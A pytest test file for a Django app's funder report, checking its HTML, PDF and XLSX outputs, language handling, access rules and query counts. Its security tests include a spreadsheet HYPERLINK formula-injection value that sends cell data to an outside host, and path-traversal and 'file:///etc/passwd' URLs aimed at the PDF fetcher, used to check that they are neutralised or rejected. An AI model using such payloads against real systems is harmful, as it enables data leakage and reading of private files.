"""The funder's report (results/report.py): the printable page, the PDF and the XLSX, in each
language, for coordinators only, with every figure of the period and nothing from elsewhere."""

import datetime
import io
import re
from decimal import Decimal

import openpyxl
import pypdf
import pytest
from django.urls import reverse
from django.utils import translation

from activities.models import Activity, Participation
from results.models import Measure, Target
from results.progress import period_progress
from results.report import static_files_fetcher
from results.services import period_close
from tests import factories
from tests.allas.test_html_valid import assert_valid
from tests.results.work_plan import make_indicator, make_objective, make_period

pytestmark = pytest.mark.django_db

START, END = datetime.date(2014, 1, 1), datetime.date(2014, 12, 31)
LANGUAGES = ["es", "pt", "fr", "en"]
FORMATS = {
    "report": "text/html; charset=utf-8",
    "report_pdf": "application/pdf",
    "report_xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
# 1234 attendees as each language writes it (Django's formats: a no-break space in es, fr).
ATTENDEES_WRITTEN = {"es": "1\xa0234", "pt": "1.234", "fr": "1\xa0234", "en": "1,234"}


def report_url(period, name="report", lang=None):
    url = reverse(f"admin:results_period_{name}", args=[period.pk])
    return f"{url}?lang={lang}" if lang else url


@pytest.fixture
def period():
    return make_period(
        name_en="Year of the report", starts_on=START, ends_on=END, slug="year-of-the-report"
    )


@pytest.fixture
def plan(period):
    """A training with 1234 attendees; an objective with a computed indicator of attendees and
    one entered by hand with its source."""
    partner = factories.make_partner()
    training = factories.make_activity(
        kind=Activity.Kind.TRAINING, starts_on=datetime.date(2014, 5, 1), partners=[partner]
    )
    Participation.objects.filter(activity=training).update(attendees=1234)
    objective = make_objective(title_en="Train city teams")
    attendees = make_indicator(
        objective=objective,
        measure=Measure.ATTENDEES,
        name_en="Attendees of trainings",
        unit_en="people",
        baseline=Decimal("12.5"),
        targets={period: 2000},
    )
    by_hand = make_indicator(
        objective=objective, measure="", name_en="Mayors reached", targets={period: 100}
    )
    Target.objects.filter(indicator=by_hand).update(
        actual=150, source_note="The secretariat's mailing list"
    )
    return {"attendees": attendees, "by_hand": by_hand}


def pdf_first_page(content):
    text = pypdf.PdfReader(io.BytesIO(content)).pages[0].extract_text()
    return text.replace("\u202f", "\xa0")


@pytest.mark.parametrize("lang", LANGUAGES)
@pytest.mark.parametrize("name", FORMATS)
def test_each_format_answers_a_coordinator_in_each_language(
    coordinator_client, period, plan, name, lang
):
    response = coordinator_client.get(report_url(period, name, lang))
    assert response.status_code == 200
    assert response["Content-Type"] == FORMATS[name]
    if name != "report":
        extension = name.removeprefix("report_")
        assert response["Content-Disposition"] == (
            f'attachment; filename="allas-results-year-of-the-report-{lang}.{extension}"'
        )


def test_the_report_is_in_the_requests_language_without_lang(coordinator_client, period, plan):
    response = coordinator_client.get(report_url(period), HTTP_ACCEPT_LANGUAGE="pt")
    assert '<html lang="pt">' in response.content.decode()
    assert ATTENDEES_WRITTEN["pt"] in response.content.decode()


@pytest.mark.parametrize("name", FORMATS)
def test_a_back_office_user_who_is_not_a_coordinator_gets_404(client, period, name):
    client.force_login(factories.make_user(is_staff=True))
    assert client.get(report_url(period, name, "en")).status_code == 404


@pytest.mark.parametrize("name", FORMATS)
def test_partner_staff_and_visitors_are_sent_to_the_admin_login(client, staff_a, period, name):
    assert client.get(report_url(period, name)).status_code == 302
    client.force_login(staff_a)
    response = client.get(report_url(period, name))
    assert response.status_code == 302 and "/admin/login/" in response["Location"]


@pytest.mark.parametrize("name", FORMATS)
def test_another_language_is_a_bad_request_that_says_which_are_known(
    coordinator_client, period, name
):
    response = coordinator_client.get(report_url(period, name, "de"))
    assert response.status_code == 400
    assert "es, pt, fr, en" in response.content.decode()


@pytest.mark.parametrize("object_id", ["999999", "abc", "9" * 30])
def test_a_period_that_does_not_exist_is_404(coordinator_client, object_id):
    url = reverse("admin:results_period_report", args=["1"]).replace("/1/", f"/{object_id}/")
    assert coordinator_client.get(url).status_code == 404


@pytest.mark.parametrize("lang", LANGUAGES)
def test_the_pdfs_first_page_names_the_period_and_writes_figures_in_its_language(
    coordinator_client, period, plan, lang
):
    response = coordinator_client.get(report_url(period, "report_pdf", lang))
    assert response.content.startswith(b"%PDF")
    text = pdf_first_page(response.content)
    assert "Year of the report" in text
    assert ATTENDEES_WRITTEN[lang] in text
    assert "Train city teams" in text


def test_the_page_says_an_open_period_is_provisional_and_a_closed_one_when_it_closed(
    coordinator_client, period, plan
):
    page = coordinator_client.get(report_url(period, lang="en")).content.decode()
    assert "Provisional: the period is open" in page
    period_close(period=period, by=factories.make_coordinator(), today=datetime.date(2015, 1, 5))
    page = coordinator_client.get(report_url(period, lang="en")).content.decode()
    assert "Provisional" not in page
    assert "Closed and reported on" in page


def test_a_closed_period_shows_the_reported_figure_and_notes_todays(
    coordinator_client, period, plan
):
    period = period_close(period=period, by=factories.make_coordinator())
    Participation.objects.update(attendees=1300)
    page = coordinator_client.get(report_url(period, lang="en")).content.decode()
    assert "Attendees of trainings: reported 1,234, today's records give 1,300." in page
    rows = xlsx_rows(coordinator_client.get(report_url(period, "report_xlsx", "en")))
    assert (rows[1][11], rows[1][12]) == ("yes", 1300)
    assert rows[2][12] is None  # the figure entered by hand is the same


def test_the_page_defines_each_computed_figure_and_gives_the_source_of_the_others(
    coordinator_client, period, plan
):
    page = coordinator_client.get(report_url(period, lang="en")).content.decode()
    assert "Computed from the records: Attendees." in page
    assert "Entered by hand. Source: The secretariat&#x27;s mailing list." in page
    # The chart of the objective, drawn on the server, with its colours in the stylesheet.
    assert '<svg class="chart"' in page and 'aria-labelledby="heading-objective-' in page
    assert "results/chart.css" in page


def test_the_narrowing_of_a_definition_is_said_in_words(coordinator_client, period, plan):
    theme = factories.make_theme(name_en="Lobbying")
    network = factories.make_network(name="Big network")
    make_indicator(
        objective=plan["attendees"].objective,
        measure=Measure.ACTIVITIES,
        activity_kind=Activity.Kind.TRAINING,
        theme=theme,
        region="europe",
        network=network,
    )
    make_indicator(
        objective=plan["attendees"].objective,
        measure=Measure.PARTNERS_JOINING,
        network=network,
        country="UY",
    )
    page = coordinator_client.get(report_url(period, lang="en")).content.decode()
    assert "Published activities, of the kind “Training”, on the theme “Lobbying”" in page
    assert "partners of the region Europe, partners that are members of Big network." in page
    assert "Partners joining Big network, partners of Uruguay." in page


def xlsx_rows(response, sheet=0):
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return [list(row) for row in workbook.worksheets[sheet].iter_rows(values_only=True)]


def test_the_xlsx_holds_every_figure_as_numbers(coordinator_client, period, plan):
    response = coordinator_client.get(report_url(period, "report_xlsx", "en"))
    header, *rows = xlsx_rows(response)
    assert len(header) == 13
    figures = period_progress(period).figures
    assert len(rows) == len(figures) == 2
    for row, figure in zip(rows, figures, strict=True):
        assert row[3] == figure.indicator.name
        assert row[6] == figure.indicator.baseline
        assert (row[7], row[8]) == (figure.target, figure.actual)
        assert row[9] == pytest.approx(float(figure.share / 100))
        # The request left its own language active: read the label in the report's.
        with translation.override("en"):
            assert row[10] == str(figure.status_label)
        assert all(isinstance(value, int | float) for value in row[6:10])
    assert rows[0][:3] == ["Year of the report", "Train city teams", rows[0][2]]
    assert "The secretariat's mailing list" in rows[1][5]


def test_the_xlsx_speaks_the_reports_language_and_notes_texts_in_another(
    coordinator_client, period, plan
):
    header, row, _by_hand = xlsx_rows(
        coordinator_client.get(report_url(period, "report_xlsx", "es"))
    )
    assert (header[2], header[10]) == ("Temas", "Estado")
    assert row[3] == "Attendees of trainings (en inglés)"
    assert row[8] == 1234


def test_the_xlsx_gives_the_periods_facts_with_dates_as_dates(coordinator_client, period, plan):
    facts = dict(xlsx_rows(coordinator_client.get(report_url(period, "report_xlsx", "en")), 1))
    assert facts["Starts on"] == datetime.datetime(2014, 1, 1)
    assert facts["Ends on"] == datetime.datetime(2014, 12, 31)
    assert facts["Indicators"] == 2
    assert facts["Closed on"] is None


def test_texts_typed_by_people_cannot_become_formulas_in_the_xlsx(coordinator_client, period):
    make_indicator(name_en='=HYPERLINK("http://x?"&A1,"Open")', targets={period: 1})
    response = coordinator_client.get(report_url(period, "report_xlsx", "en"))
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cell = workbook.worksheets[0]["D2"]
    assert cell.data_type == "s"
    assert cell.value == '\'=HYPERLINK("http://x?"&A1,"Open")'


def test_the_page_loads_nothing_from_elsewhere(coordinator_client, period, plan):
    Target.objects.filter(indicator=plan["by_hand"]).update(source_url="https://example.org/s")
    page = coordinator_client.get(report_url(period, lang="fr")).content.decode()
    assert "https://example.org/s" in page  # the source, as text
    assert re.findall(r"(?:src|href)=\"(?:https?:)?//[^\"]*\"", page) == []


def test_the_pdf_fetcher_reads_static_files_from_disk_and_nothing_else():
    fetcher = static_files_fetcher("http://testserver/")
    response = fetcher.fetch("http://testserver/static/results/report.css")
    assert b"@page" in response.read()
    assert response.content_type == "text/css"
    for url in [
        "http://example.org/static/results/report.css",
        "https://testserver/static/results/report.css",
        "http://testserver/static/../../allas/settings.py",
        "http://testserver/static/results/missing.css",
        "file:///etc/passwd",
        "http://testserver/admin/",
    ]:
        with pytest.raises(ValueError, match="static files only"):
            fetcher.fetch(url)


def test_the_report_is_valid_html_in_two_languages(coordinator_client, period, plan, tmp_path):
    assert_valid(
        coordinator_client,
        [report_url(period, lang="es"), report_url(period, lang="en")],
        tmp_path,
    )


@pytest.mark.parametrize("activities", [1, 30])
def test_the_report_costs_the_same_queries_for_few_and_many_records(
    coordinator_client, period, plan, activities, django_assert_num_queries
):
    """Prevents N+1: the records are counted in SQL, one query per computed indicator."""
    partner = factories.make_partner()
    for _ in range(activities - 1):
        factories.make_activity(
            kind=Activity.Kind.TRAINING, starts_on=datetime.date(2014, 6, 1), partners=[partner]
        )
    # Session, user, coordinator's group; the period; indicators, themes, targets; one computed.
    with django_assert_num_queries(8):
        assert coordinator_client.get(report_url(period, lang="en")).status_code == 200
